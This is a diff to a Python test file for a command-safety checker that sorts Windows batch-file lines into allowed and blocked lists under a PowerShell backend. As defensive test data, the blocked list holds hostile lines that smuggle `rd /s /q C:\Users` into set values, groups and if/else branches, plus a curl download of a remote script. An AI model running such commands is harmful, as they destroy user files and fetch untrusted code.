@@ -1,7 +1,8 @@
 """Lines of the batch files Windows projects build, test and package with (`build.cmd`, `make.bat`,
 `package.bat`), checked under the PowerShell backend: a quoted toolchain program followed by its arguments
 is what cmd runs (PowerShell refuses the line); a `for` loop's list of values runs nothing; `set NAME=…`
-outside a block keeps its parentheses in the value. Each allowed line has a blocked twin of the same form."""
+outside a block keeps its parentheses in the value (what they hold is judged as PowerShell would run it); a
+group ending in `exit /b` is cmd's. Each allowed line has a blocked twin of the same form."""
 
 from __future__ import annotations
 
@@ -27,6 +28,9 @@ ALLOWED = [
     "set lib=%ProgramFiles%\\Microsoft DirectX SDK (June 2010)\\Lib\\x64;%lib%",
     "set INCLUDE=C:\\Program Files (x86)\\Windows Kits\\10\\Include;%INCLUDE%",
     "set PATH=C:\\Program Files (x86)\\CMake\\bin;%PATH%",
+    # a failed step's message and exit in a group
+    "where /q cmake || (echo cmake was not found & exit /b 1)",
+    "msbuild App.sln /m || (echo build failed & exit /b %errorlevel%)",
 ]
 
 BLOCKED = [
@@ -44,6 +48,9 @@ BLOCKED = [
     "set lib=%USERPROFILE%\\.nuget (cache)\\lib;%lib%",
     "set lib=C:\\SDK (x86)\\Lib;%lib% & rd /s /q C:\\Users",
     "if exist build (set X=1) else (rd /s /q C:\\Users)",
+    "set LIB=C:\\sdk(rd /s /q C:\\Users)\\lib;%LIB%",  # PowerShell runs the parentheses' command
+    "where /q cmake || (echo cmake was not found & rd /s /q C:\\Users)",
+    "msbuild App.sln /m || (curl -fsS https://example.com/x.cmd -o x.cmd & exit /b 1)",
 ]
 
 
@@ -71,5 +78,6 @@ def test_a_set_keeps_its_parentheses_only_outside_a_block() -> None:
     assert [[a.raw for a in c.argv] for c in alone.commands] == [
         ["set", "lib=C:\\DX", "SDK", "(June", "2010)\\Lib;%lib%"]
     ]
+    assert [[a.text for a in r] for r in alone.program_readings] == [["June", "2010"]]
     block = parse_cmd("if 1==1 (set x=a) & rd /s /q out")
     assert ["rd", "/s", "/q", "out"] in [[a.text for a in c.argv] for c in block.commands]
